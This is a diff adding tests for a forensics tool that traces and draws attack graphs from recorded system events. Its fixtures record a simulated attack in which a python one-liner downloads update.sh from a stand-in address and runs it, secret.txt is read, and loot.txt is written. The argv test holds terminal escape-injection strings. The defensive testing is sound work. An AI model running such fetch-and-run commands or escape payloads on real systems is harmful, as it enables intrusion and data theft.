@@ -24,6 +24,8 @@
 #include "../core/log.h"
 #include "../graph/walk.h"
 #include "../graph/export.h"
+#include "../graph/filter.h"
+#include "../capture/gen.h"
 #include "testutil.h"
 
 #define T0 1700000000000000000ull
@@ -213,6 +215,30 @@ static const char *attr(void *obj, const char *name)
 	return v ? v : "";
 }
 
+/* The result's nodes in a DOT graph (the legend's have no kind). */
+static int result_nodes(Agraph_t *g)
+{
+	Agnode_t *n;
+	int k = 0;
+
+	for (n = agfstnode(g); n; n = agnxtnode(g, n))
+		k += *attr(n, "kind") != '\0';
+	return k;
+}
+
+/* Its drawn edges (not the legend's or the layout's invisible ones). */
+static int result_edges(Agraph_t *g)
+{
+	Agnode_t *n;
+	Agedge_t *e;
+	int k = 0;
+
+	for (n = agfstnode(g); n; n = agnxtnode(g, n))
+		for (e = agfstout(g, n); e; e = agnxtout(g, e))
+			k += strcmp(attr(e, "style"), "invis") != 0;
+	return k;
+}
+
 /* ---- format names ----------------------------------------------------- */
 
 START_TEST(test_format_names)
@@ -255,8 +281,8 @@ START_TEST(test_dot_parses_back)
 	dot = export_mem(&r, BT_FMT_DOT, NULL);
 	ag = agmemread(dot);
 	ck_assert_msg(ag != NULL, "DOT does not parse:\n%s", dot);
-	ck_assert_int_eq(agnnodes(ag), 4);
-	ck_assert_int_eq(agnedges(ag), 3);
+	ck_assert_int_eq(result_nodes(ag), 4);
+	ck_assert_int_eq(result_edges(ag), 3);
 	n = node_named(ag, "n0");
 	ck_assert_str_eq(attr(n, "label"), "/tmp/x");
 	ck_assert_str_eq(attr(n, "color"), "red");
@@ -266,19 +292,25 @@ START_TEST(test_dot_parses_back)
 	ck_assert_str_eq(attr(n, "label"), "bash [100]");
 	ck_assert_str_eq(attr(n, "shape"), "box");
 	ck_assert_str_eq(attr(n, "argv"), "bash -c x");
+	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "bash -c x"));
+	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "uid 0"));
 	ck_assert_ptr_null(strstr(attr(n, "style"), "filled"));
 	n = node_named(ag, "n2");
 	ck_assert_str_eq(attr(n, "label"), "/etc/passwd");
+	ck_assert_str_eq(attr(n, "path"), "/etc/passwd");
+	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "inode 8:42"));
 	ck_assert_ptr_nonnull(strstr(attr(n, "style"), "filled"));
 	n = node_named(ag, "n3");
 	ck_assert_str_eq(attr(n, "label"), "203.0.113.9:4444");
 	ck_assert_str_eq(attr(n, "shape"), "diamond");
 	ck_assert_ptr_nonnull(strstr(attr(n, "style"), "filled"));
 
-	/* The write edge n1 -> n0 carries "write ×3" and its first time. */
+	/* The write edge n1 -> n0 carries "write ×3" and its first time
+	 * as seconds after the first event of the result (the read, T0+1s);
+	 * the absolute times are in its tooltip. */
 	for (n = agfstnode(ag); n; n = agnxtnode(ag, n)) {
 		for (e = agfstout(ag, n); e; e = agnxtout(ag, e)) {
-			const char *lab = attr(e, "label");
+			const char *lab = attr(e, "label"), *plus;
 
 			if (strcmp(attr(e, "op"), "write"))
 				continue;
@@ -287,8 +319,16 @@ START_TEST(test_dot_parses_back)
 			ck_assert_str_eq(agnameof(aghead(e)), "n0");
 			ck_assert_msg(!strncmp(lab, "write \xc3\x97" "3", 9),
 				      "label '%s'", lab);
-			ck_assert_msg(strstr(lab, "2023-11-14T22:13:23Z") !=
-				      NULL, "label '%s'", lab);
+			plus = strchr(lab, '+');
+			ck_assert_msg(plus && strtod(plus + 1, NULL) == 2.0,
+				      "label '%s'", lab);
+			ck_assert_ptr_null(strstr(lab, "2023-"));
+			ck_assert_msg(strstr(attr(e, "tooltip"),
+				      "2023-11-14T22:13:23Z") != NULL,
+				      "tooltip '%s'", attr(e, "tooltip"));
+			ck_assert_msg(strstr(attr(e, "tooltip"),
+				      "2023-11-14T22:13:25Z") != NULL,
+				      "tooltip '%s'", attr(e, "tooltip"));
 		}
 	}
 	ck_assert_int_eq(nwrite, 1);
@@ -331,11 +371,21 @@ START_TEST(test_dot_hostile)
 	ag = agmemread(dot);
 	ck_assert_msg(ag != NULL, "%s: DOT does not parse:\n%s", h->what,
 		      dot);
-	ck_assert_int_eq(agnnodes(ag), 4);
-	ck_assert_int_eq(agnedges(ag), 3);
+	ck_assert_int_eq(result_nodes(ag), 4);
+	ck_assert_int_eq(result_edges(ag), 3);
+	/* The short label and the tooltip are clean text; the full name
+	 * comes back from the path attribute. */
 	lab = undot(attr(node_named(ag, "n2"), "label"));
 	ck_assert_msg(clean_utf8(lab, strlen(lab), false),
 		      "%s: label '%s' not clean", h->what, lab);
+	free(lab);
+	lab = undot(attr(node_named(ag, "n2"), "tooltip"));
+	ck_assert_msg(clean_utf8(lab, strlen(lab), true),
+		      "%s: tooltip '%s' not clean", h->what, lab);
+	free(lab);
+	lab = undot(attr(node_named(ag, "n2"), "path"));
+	ck_assert_msg(clean_utf8(lab, strlen(lab), false),
+		      "%s: path '%s' not clean", h->what, lab);
 	orig = unshow(lab, &olen);
 	ck_assert_uint_eq(olen, h->len);
 	ck_assert_msg(!memcmp(orig, h->name, h->len), "%s: '%s'", h->what,
@@ -380,7 +430,11 @@ START_TEST(test_dot_long_name)
 	dot = export_mem(&r, BT_FMT_DOT, NULL);
 	ag = agmemread(dot);
 	ck_assert_ptr_nonnull(ag);
+	/* The label is short, the path whole. */
 	lab = undot(attr(node_named(ag, "n2"), "label"));
+	ck_assert_uint_lt(strlen(lab), 200);
+	free(lab);
+	lab = undot(attr(node_named(ag, "n2"), "path"));
 	orig = unshow(lab, &olen);
 	ck_assert_uint_eq(olen, len);
 	ck_assert(!memcmp(orig, name, len));
@@ -585,8 +639,8 @@ START_TEST(test_single_node)
 	out = export_mem(&r, BT_FMT_DOT, &len);
 	ag = agmemread(out);
 	ck_assert_ptr_nonnull(ag);
-	ck_assert_int_eq(agnnodes(ag), 1);
-	ck_assert_int_eq(agnedges(ag), 0);
+	ck_assert_int_eq(result_nodes(ag), 1);
+	ck_assert_int_eq(result_edges(ag), 0);
 	agclose(ag);
 	free(out);
 	bt_graph_free(g);
@@ -672,6 +726,76 @@ START_TEST(test_text)
 }
 END_TEST
 
+/* The text says what happened in the investigation's words: the command
+ * as run, the role of each node, fixed-width offsets from the first event
+ * with the absolute time once, above, and no send into an entry point
+ * listed as its cause. */
+START_TEST(test_text_words)
+{
+	struct bt_graph *g = load_fixture("/etc/passwd", 11);
+	struct bt_edge e4[4];
+	struct bt_result r;
+	char *text, *body, *line, *save, *ep;
+	size_t len;
+	int col = -1, width = -1, nedge = 0;
+
+	make_result(&r, g);
+	/* bash also sent to the endpoint before it received from it. */
+	memcpy(e4, edges3, sizeof(edges3));
+	e4[3] = (struct bt_edge){ 1, 3, BT_OP_SEND, 1, T0 + SEC + SEC / 2,
+		T0 + SEC + SEC / 2 };
+	r.edges = e4;
+	r.nedges = 4;
+	text = export_mem(&r, BT_FMT_TEXT, &len);
+	ck_assert_msg(strstr(text, "[1] bash -c x [100]  (process, "
+			     "intermediate") != NULL, "%s", text);
+	ck_assert_ptr_nonnull(strstr(text, "(file, detection point"));
+	ck_assert_ptr_nonnull(strstr(text, "(endpoint, entry point"));
+	ck_assert_ptr_nonnull(strstr(text, "result: 4 objects, 4 dependencies, "
+				     "5 events examined"));
+	ck_assert_msg(strstr(text, "send") == NULL, "a send into the entry "
+		      "point is listed:\n%s", text);
+	ep = strstr(text, "entry points (2), most likely first:\n");
+	ck_assert_msg(ep != NULL, "%s", text);
+	ck_assert_ptr_nonnull(strstr(ep, ". [3] 203.0.113.9:4444"));
+	/* Absolute times in the header only; every edge line starts with
+	 * its offset in one column, of one width. */
+	body = strstr(text, "\ndepth 0:");
+	ck_assert_ptr_nonnull(body);
+	ck_assert_ptr_null(strstr(body, "2023-"));
+	ck_assert_ptr_nonnull(strstr(text, "2023-11-14T22:13:21Z"));
+	for (line = strtok_r(body, "\n", &save); line;
+	     line = strtok_r(NULL, "\n", &save)) {
+		const char *p = strstr(line, " s  <- ");
+		int c, w;
+
+		if (!p)
+			continue;
+		nedge++;
+		c = (int)(strchr(line, '+') - line);
+		w = (int)(p - line) - c;
+		ck_assert_msg(col < 0 || (c == col && w == width),
+			      "time column moves: '%s'", line);
+		col = c;
+		width = w;
+	}
+	ck_assert_int_eq(nedge, 3);
+	free(text);
+
+	/* One object; forward, the start is the starting point. */
+	r.nnodes = 1;
+	r.nedges = 0;
+	r.dir = BT_FORWARD;
+	text = export_mem(&r, BT_FMT_TEXT, &len);
+	ck_assert_msg(strstr(text, "result: 1 object, 0 dependencies") !=
+		      NULL, "%s", text);
+	ck_assert_ptr_nonnull(strstr(text, "starting point"));
+	ck_assert_ptr_null(strstr(text, "leaf"));
+	free(text);
+	bt_graph_free(g);
+}
+END_TEST
+
 /* No name can put a control character (cursor movement, a fake line) on
  * the terminal. */
 START_TEST(test_text_hostile)
@@ -747,6 +871,393 @@ START_TEST(test_page_labels)
 	ck_assert_str_eq(buf, "/dev/shm/s (pages)");
 	bt_node_label(&r, 2, buf, sizeof(buf));
 	ck_assert_str_eq(buf, "file (8:9)");
+	bt_graph_free(g);
+}
+END_TEST
+
+/* The command line and comm are untrusted too: shortened, they still
+ * never carry a control character, in text or in DOT. */
+START_TEST(test_hostile_argv)
+{
+	static const char comm[] = "\033]0;pwned\007sh";
+	static const char pat[] = "sh\0-c\0\033[2J\n\xff\xc3\"'\\\t x";
+	const char *path = tu_path("argv.btl");
+	struct bt_log_writer *w;
+	struct bt_graph *g;
+	struct bt_result r;
+	struct bt_node nd[2];
+	struct bt_edge ed[1];
+	Agraph_t *ag;
+	char *argv, *out, *lab;
+	size_t alen = 20000, i, len;
+
+	argv = malloc(alen);
+	ck_assert_ptr_nonnull(argv);
+	for (i = 0; i < alen; i++)
+		argv[i] = pat[i % (sizeof(pat) - 1)];
+	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE), 0);
+	ck_assert_int_eq(bt_log_append_process(w, 1, 7, T0, 1, 0), 0);
+	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_ARGV, T0, argv,
+					     alen), 0);
+	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_COMM, T0, comm,
+					     sizeof(comm) - 1), 0);
+	ck_assert_int_eq(bt_log_append_file(w, 2, 0, 8, 1), 0);
+	ck_assert_int_eq(bt_log_append_label(w, 2, BT_LABEL_PATH, T0,
+					     "/tmp/o", 6), 0);
+	ck_assert_int_eq(bt_log_append_event(w, BT_OP_WRITE, 0, 7, T0 + SEC,
+					     1, 2), 0);
+	ck_assert_int_eq(bt_log_writer_close(w), 0);
+	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
+	memset(&r, 0, sizeof(r));
+	r.g = g;
+	r.dir = BT_BACKWARD;
+	r.opts.until = T0 + SEC;
+	nd[0] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_FILE,
+		.flags = BT_NODE_DETECTION, .threshold = T0 + SEC };
+	nd[1] = (struct bt_node){ .obj = 1, .kind = BT_OBJ_PROCESS,
+		.flags = BT_NODE_ENTRY, .depth = 1, .threshold = T0 + SEC };
+	ed[0] = (struct bt_edge){ 1, 0, BT_OP_WRITE, 1, T0 + SEC, T0 + SEC };
+	r.nodes = nd;
+	r.nnodes = 2;
+	r.edges = ed;
+	r.nedges = 1;
+
+	out = export_mem(&r, BT_FMT_TEXT, &len);
+	ck_assert_msg(clean_utf8(out, len, true), "%s", out);
+	/* The command is shortened: no line near 20 KB. */
+	ck_assert_uint_lt(len, 2000);
+	free(out);
+	out = export_mem(&r, BT_FMT_DOT, &len);
+	ag = agmemread(out);
+	ck_assert_msg(ag != NULL, "%s", out);
+	lab = undot(attr(node_named(ag, "n1"), "label"));
+	ck_assert_msg(clean_utf8(lab, strlen(lab), false), "label '%s'", lab);
+	free(lab);
+	lab = undot(attr(node_named(ag, "n1"), "tooltip"));
+	ck_assert_msg(clean_utf8(lab, strlen(lab), true), "tooltip not clean");
+	free(lab);
+	agclose(ag);
+	free(out);
+	free(argv);
+	bt_graph_free(g);
+}
+END_TEST
+
+/* ---- the picture ----------------------------------------------------- */
+
+/*
+ * The demo's attack, as a user would record it: a shell runs a script; a
+ * python process downloads update.sh from 203.0.113.9:80; sh update.sh
+ * reads it, has cat read the secret into a pipe, and a python writes the
+ * secret into the board; another python reads the board and drops
+ * loot.txt.  Ordinary work around it: an editor writes the board too, ls
+ * lists /etc, date writes a file.
+ */
+#define W "/home/analyst/projects/demo/work/"
+static const char demo_like[] =
+	"{\"time\": 1000000000, \"op\": \"exec\", \"pid\": 1, \"path\": \"/bin/sh\", \"comm\": \"sh\", \"argv\": [\"sh\", \"attack.sh\"]}\n"
+	"{\"time\": 1000000100, \"op\": \"read\", \"pid\": 1, \"path\": \"" W "attack.sh\"}\n"
+	"{\"time\": 1000000200, \"op\": \"fork\", \"pid\": 1, \"child\": 9}\n"
+	"{\"time\": 1000000300, \"op\": \"exec\", \"pid\": 9, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"edit board\"]}\n"
+	"{\"time\": 1000000400, \"op\": \"write\", \"pid\": 9, \"path\": \"" W "board\"}\n"
+	"{\"time\": 1000000500, \"op\": \"fork\", \"pid\": 1, \"child\": 2}\n"
+	"{\"time\": 1000000600, \"op\": \"exec\", \"pid\": 2, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"import urllib.request; urllib.request.urlretrieve('http://203.0.113.9/update.sh', 'update.sh')\"]}\n"
+	"{\"time\": 1000000700, \"op\": \"read\", \"pid\": 2, \"path\": \"/etc/hosts\"}\n"
+	"{\"time\": 1000000800, \"op\": \"connect\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
+	"{\"time\": 1000000900, \"op\": \"send\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
+	"{\"time\": 1000001000, \"op\": \"recv\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
+	"{\"time\": 1000001100, \"op\": \"create\", \"pid\": 2, \"path\": \"" W "update.sh\"}\n"
+	"{\"time\": 1000001200, \"op\": \"write\", \"pid\": 2, \"path\": \"" W "update.sh\"}\n"
+	"{\"time\": 1000001300, \"op\": \"fork\", \"pid\": 1, \"child\": 3}\n"
+	"{\"time\": 1000001400, \"op\": \"exec\", \"pid\": 3, \"path\": \"/bin/sh\", \"comm\": \"sh\", \"argv\": [\"sh\", \"update.sh\"]}\n"
+	"{\"time\": 1000001500, \"op\": \"read\", \"pid\": 3, \"path\": \"" W "update.sh\"}\n"
+	"{\"time\": 1000001600, \"op\": \"fork\", \"pid\": 3, \"child\": 4}\n"
+	"{\"time\": 1000001700, \"op\": \"exec\", \"pid\": 4, \"path\": \"/bin/cat\", \"comm\": \"cat\", \"argv\": [\"cat\", \"" W "secret.txt\"]}\n"
+	"{\"time\": 1000001800, \"op\": \"read\", \"pid\": 4, \"path\": \"" W "secret.txt\"}\n"
+	"{\"time\": 1000001900, \"op\": \"write\", \"pid\": 4, \"path\": \"pipe:[77]\", \"inode\": 77, \"dev\": 9, \"kind\": \"pipe\"}\n"
+	"{\"time\": 1000002000, \"op\": \"read\", \"pid\": 3, \"path\": \"pipe:[77]\", \"inode\": 77, \"dev\": 9, \"kind\": \"pipe\"}\n"
+	"{\"time\": 1000002100, \"op\": \"fork\", \"pid\": 3, \"child\": 5}\n"
+	"{\"time\": 1000002200, \"op\": \"exec\", \"pid\": 5, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-\", \"board\"]}\n"
+	"{\"time\": 1000002300, \"op\": \"write\", \"pid\": 5, \"path\": \"" W "board\"}\n"
+	"{\"time\": 1000002400, \"op\": \"fork\", \"pid\": 1, \"child\": 6}\n"
+	"{\"time\": 1000002500, \"op\": \"exec\", \"pid\": 6, \"path\": \"/bin/ls\", \"comm\": \"ls\", \"argv\": [\"ls\", \"/etc\"]}\n"
+	"{\"time\": 1000002600, \"op\": \"read\", \"pid\": 6, \"path\": \"/etc\"}\n"
+	"{\"time\": 1000002700, \"op\": \"write\", \"pid\": 6, \"path\": \"" W "listing\"}\n"
+	"{\"time\": 1000002800, \"op\": \"fork\", \"pid\": 1, \"child\": 7}\n"
+	"{\"time\": 1000002900, \"op\": \"exec\", \"pid\": 7, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"import mmap\\nwith open('board', 'rb') as f:\\n    open('loot.txt', 'wb').write(f.read())\"]}\n"
+	"{\"time\": 1000003000, \"op\": \"read\", \"pid\": 7, \"path\": \"" W "board\"}\n"
+	"{\"time\": 1000003100, \"op\": \"read\", \"pid\": 7, \"path\": \"/etc/passwd\"}\n"
+	"{\"time\": 1000003200, \"op\": \"write\", \"pid\": 7, \"path\": \"" W "loot.txt\"}\n"
+	"{\"time\": 1000003300, \"op\": \"write\", \"pid\": 7, \"path\": \"" W "loot.txt\"}\n";
+
+/* The text of each node's first <text> in an SVG, by node id: its y
+ * (down the page). */
+static double svg_node_y(const char *svg, const char *id)
+{
+	char key[64];
+	const char *g, *t, *y;
+
+	snprintf(key, sizeof(key), "<g id=\"%s\" class=\"node\">", id);
+	g = strstr(svg, key);
+	ck_assert_msg(g != NULL, "no node %s in the SVG", id);
+	t = strstr(g, "<text ");
+	ck_assert_ptr_nonnull(t);
+	y = strstr(t, " y=\"");
+	ck_assert_ptr_nonnull(y);
+	return strtod(y + 4, NULL);
+}
+
+/* The SVG's size in pixels at 96 dpi (graphviz gives points). */
+static void svg_size(const char *svg, double *w, double *h)
+{
+	const char *s = strstr(svg, "<svg ");
+
+	ck_assert_ptr_nonnull(s);
+	*w = strtod(strstr(s, " width=\"") + 8, NULL) * 96 / 72;
+	*h = strtod(strstr(s, " height=\"") + 9, NULL) * 96 / 72;
+}
+
+START_TEST(test_svg_demo_like)
+{
+	const char *path = tu_path("demo.btl");
+	struct bt_filter_opts fo;
+	struct bt_filter_report *rep;
+	struct bt_walk_opts o;
+	struct bt_result *res;
+	struct bt_graph *g;
+	Agraph_t *ag;
+	Agnode_t *n, *entry = NULL, *at;
+	Agedge_t *e;
+	char *dot, *svg, *p;
+	double w, h, ydet, y;
+	uint32_t start;
+	uint64_t t;
+	size_t len, steps;
+	int err;
+
+	err = tu_log_from_jsonl(path, demo_like);
+	ck_assert_msg(err == 0, "import: %s", bt_error_msg());
+	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
+	ck_assert_int_eq(bt_spec_resolve(&start, &t, g, "file:" W "loot.txt"),
+			 0);
+	bt_walk_opts_init(&o);
+	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
+	bt_filter_opts_init(&fo);
+	ck_assert_int_eq(bt_filter_apply(res, &fo, &rep), 0);
+	ck_assert_uint_ge(res->nnodes, 12);
+
+	/* DOT: the legend; short labels (no shared prefix); the bold path
+	 * runs from the entry point ranked first to the detection point. */
+	dot = export_mem(res, BT_FMT_DOT, NULL);
+	ag = agmemread(dot);
+	ck_assert_ptr_nonnull(ag);
+	ck_assert_ptr_nonnull(agsubg(ag, (char *)"cluster_legend", 0));
+	for (n = agfstnode(ag); n; n = agnxtnode(ag, n)) {
+		if (!*attr(n, "kind"))
+			continue;
+		ck_assert_msg(!strstr(attr(n, "label"), "/home/analyst"),
+			      "long label '%s'", attr(n, "label"));
+		if (!strcmp(attr(n, "entry_rank"), "1"))
+			entry = n;
+	}
+	ck_assert_msg(entry != NULL, "no entry point ranked first:\n%s", dot);
+	ck_assert_str_eq(attr(entry, "label"), "203.0.113.9:80");
+	for (at = entry, steps = 0; at != node_named(ag, "n0") && steps < 50;
+	     steps++) {
+		for (e = agfstout(ag, at); e; e = agnxtout(ag, e))
+			if (!strcmp(attr(e, "attack"), "true"))
+				break;
+		ck_assert_msg(e != NULL, "the attack path stops at %s",
+			      attr(at, "label"));
+		ck_assert_ptr_nonnull(strstr(attr(e, "style"), "bold"));
+		at = aghead(e);
+	}
+	ck_assert_ptr_eq(at, node_named(ag, "n0"));
+	/* The send into the endpoint is drawn, but not as a cause. */
+	for (e = agfstin(ag, entry); e; e = agnxtin(ag, e)) {
+		ck_assert_str_eq(attr(e, "cause"), "false");
+		ck_assert_str_eq(attr(e, "constraint"), "false");
+	}
+	agclose(ag);
+	free(dot);
+
+	/* SVG: fits 1600 px, the detection point alone at the bottom, the
+	 * first entry point at the top. */
+	svg = export_mem(res, BT_FMT_SVG, &len);
+	svg_size(svg, &w, &h);
+	ck_assert_msg(w <= 1600, "the picture is %.0f px wide", w);
+	ydet = svg_node_y(svg, "n0");
+	for (p = strstr(svg, "class=\"node\""); p;
+	     p = strstr(p + 1, "class=\"node\"")) {
+		const char *id = p;
+		char nid[32];
+
+		while (id > svg && strncmp(id, "<g id=\"", 7))
+			id--;
+		if (sscanf(id, "<g id=\"%31[^\"]", nid) != 1 ||
+		    nid[0] != 'n' || nid[1] < '0' || nid[1] > '9')
+			continue;  /* the legend's */
+		y = svg_node_y(svg, nid);
+		ck_assert_msg(!strcmp(nid, "n0") || y < ydet, "%s is not above "
+			      "the detection point", nid);
+	}
+	free(svg);
+	bt_result_free(res);
+	bt_filter_report_free(rep);
+	bt_graph_free(g);
+}
+END_TEST
+
+/*
+ * A generated log's database: a result of about 200 objects, most of them
+ * pages and files read by a few processes (88 at one depth).  Drawn, it
+ * stays legible: every object is there with its label, and the picture is
+ * not a strip many screens wide (top to bottom it was 12,000 points wide;
+ * it turns left to right and says so).
+ */
+START_TEST(test_svg_200)
+{
+	const char *path = tu_path("gen.btl");
+	struct bt_gen_opts go = { 2000, 1, 1700000000000000000ull };
+	struct bt_gen_info gi;
+	struct bt_filter_opts fo;
+	struct bt_filter_report *rep;
+	struct bt_log_writer *w;
+	struct bt_walk_opts o;
+	struct bt_result *res;
+	struct bt_graph *g;
+	char *svg, key[64];
+	double wpx, hpx;
+	uint32_t start;
+	uint64_t t;
+	size_t len, i;
+
+	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE |
+					    BT_LOGW_TRUNC), 0);
+	ck_assert_int_eq(bt_gen(w, &go, &gi), 0);
+	ck_assert_int_eq(bt_log_writer_close(w), 0);
+	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
+	ck_assert_int_eq(bt_spec_resolve(&start, &t, g,
+					 "file:/dev/shm/PostgreSQL.1017"), 0);
+	bt_walk_opts_init(&o);
+	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
+	bt_filter_opts_init(&fo);
+	ck_assert_int_eq(bt_filter_apply(res, &fo, &rep), 0);
+	ck_assert_msg(res->nnodes >= 150 && res->nnodes <= 300,
+		      "gen's result has %zu objects now: pick another "
+		      "detection point", res->nnodes);
+	svg = export_mem(res, BT_FMT_SVG, &len);
+	/* Every object drawn, with its label. */
+	for (i = 0; i < res->nnodes; i++) {
+		snprintf(key, sizeof(key), "n%zu", i);
+		svg_node_y(svg, key);
+	}
+	svg_size(svg, &wpx, &hpx);
+	ck_assert_msg(wpx <= 4000, "%.0f x %.0f px", wpx, hpx);
+	ck_assert_ptr_nonnull(strstr(svg, "time flows left to right"));
+	free(svg);
+	bt_result_free(res);
+	bt_filter_report_free(rep);
+	bt_graph_free(g);
+}
+END_TEST
+
+/* Two process trees (two sessions) are two clusters, each named after
+ * its root. */
+static const char two_trees[] =
+	"{\"time\": 1000000000, \"op\": \"exec\", \"pid\": 1, \"path\": \"/bin/sshd\", \"comm\": \"sshd\"}\n"
+	"{\"time\": 1000000001, \"op\": \"fork\", \"pid\": 1, \"child\": 2}\n"
+	"{\"time\": 1000000002, \"op\": \"exec\", \"pid\": 2, \"path\": \"/bin/bash\", \"comm\": \"bash\"}\n"
+	"{\"time\": 1000000003, \"op\": \"write\", \"pid\": 2, \"path\": \"/tmp/drop\"}\n"
+	"{\"time\": 1000000004, \"op\": \"exec\", \"pid\": 3, \"path\": \"/usr/sbin/cron\", \"comm\": \"cron\"}\n"
+	"{\"time\": 1000000005, \"op\": \"fork\", \"pid\": 3, \"child\": 4}\n"
+	"{\"time\": 1000000006, \"op\": \"exec\", \"pid\": 4, \"path\": \"/bin/sh\", \"comm\": \"sh\"}\n"
+	"{\"time\": 1000000007, \"op\": \"read\", \"pid\": 4, \"path\": \"/tmp/drop\"}\n"
+	"{\"time\": 1000000008, \"op\": \"write\", \"pid\": 4, \"path\": \"/etc/shadow\"}\n";
+
+START_TEST(test_dot_trees)
+{
+	const char *path = tu_path("trees.btl");
+	struct bt_walk_opts o;
+	struct bt_result *res;
+	struct bt_graph *g;
+	Agraph_t *ag, *sg;
+	uint32_t start;
+	uint64_t t;
+	char *dot;
+	int n = 0;
+
+	ck_assert_int_eq(tu_log_from_jsonl(path, two_trees), 0);
+	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
+	ck_assert_int_eq(bt_spec_resolve(&start, &t, g, "file:/etc/shadow"),
+			 0);
+	bt_walk_opts_init(&o);
+	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
+	dot = export_mem(res, BT_FMT_DOT, NULL);
+	ag = agmemread(dot);
+	ck_assert_ptr_nonnull(ag);
+	for (sg = agfstsubg(ag); sg; sg = agnxtsubg(sg)) {
+		if (strncmp(agnameof(sg), "cluster_tree", 12))
+			continue;
+		n++;
+		ck_assert_msg(strstr(attr(sg, "label"), "process tree of ") &&
+			      (strstr(attr(sg, "label"), "sshd [1]") ||
+			       strstr(attr(sg, "label"), "cron [3]")),
+			      "cluster label '%s'", attr(sg, "label"));
+		ck_assert_int_ge(agnnodes(sg), 2);
+	}
+	ck_assert_msg(n == 2, "%d process-tree clusters in\n%s", n, dot);
+	agclose(ag);
+	free(dot);
+	bt_result_free(res);
+	bt_graph_free(g);
+}
+END_TEST
+
+/* Graphviz never sees a graph too large to lay out: a clear refusal
+ * naming what to do, and DOT and text still work. */
+START_TEST(test_layout_limit)
+{
+	struct bt_graph *g = load_fixture("/etc/passwd", 11);
+	struct bt_export_opts o = { 0 };
+	struct bt_node *big;
+	struct bt_result r;
+	char *buf = NULL;
+	size_t n = 0, i;
+	FILE *f;
+
+	make_result(&r, g);
+	o.max_layout_nodes = 3;
+	f = open_memstream(&buf, &n);
+	ck_assert_int_eq(bt_export_with(&r, BT_FMT_SVG, &o, f), BT_ELIMIT);
+	ck_assert_ptr_nonnull(strstr(bt_error_msg(), "--max-nodes"));
+	ck_assert_ptr_nonnull(strstr(bt_error_msg(), "json"));
+	ck_assert_int_eq(bt_export_with(&r, BT_FMT_PNG, &o, f), BT_ELIMIT);
+	fflush(f);
+	ck_assert_uint_eq(n, 0);
+	ck_assert_int_eq(bt_export_with(&r, BT_FMT_DOT, &o, f), 0);
+	o.max_layout_nodes = 4;
+	ck_assert_int_eq(bt_export_with(&r, BT_FMT_SVG, &o, f), 0);
+	fclose(f);
+	free(buf);
+
+	/* The default limit, without laying anything out. */
+	big = calloc(BT_LAYOUT_NODES_DEFAULT + 1, sizeof(*big));
+	ck_assert_ptr_nonnull(big);
+	for (i = 0; i <= BT_LAYOUT_NODES_DEFAULT; i++)
+		big[i] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_FILE,
+			.depth = (uint32_t)i };
+	big[0].flags = BT_NODE_DETECTION;
+	r.nodes = big;
+	r.nnodes = BT_LAYOUT_NODES_DEFAULT + 1;
+	r.nedges = 0;
+	buf = NULL;
+	f = open_memstream(&buf, &n);
+	ck_assert_int_eq(bt_export(&r, BT_FMT_SVG, f), BT_ELIMIT);
+	ck_assert_int_eq(bt_export(&r, BT_FMT_PDF, f), BT_ELIMIT);
+	fclose(f);
+	free(buf);
+	free(big);
 	bt_graph_free(g);
 }
 END_TEST
@@ -884,6 +1395,14 @@ static Suite *export_suite(void)
 	TC("png and pdf", test_png_pdf);
 	tcase_set_timeout(tc, 60);
 	TC("text", test_text);
+	TC("text in words", test_text_words);
+	TC("hostile argv and comm", test_hostile_argv);
+	TC("svg of a demo-like attack", test_svg_demo_like);
+	tcase_set_timeout(tc, 60);
+	TC("process trees", test_dot_trees);
+	TC("a 200-object picture", test_svg_200);
+	tcase_set_timeout(tc, 120);
+	TC("layout limit", test_layout_limit);
 	TCL("text hostile names", test_text_hostile);
 	TC("node label", test_node_label);
 	TC("page labels", test_page_labels);
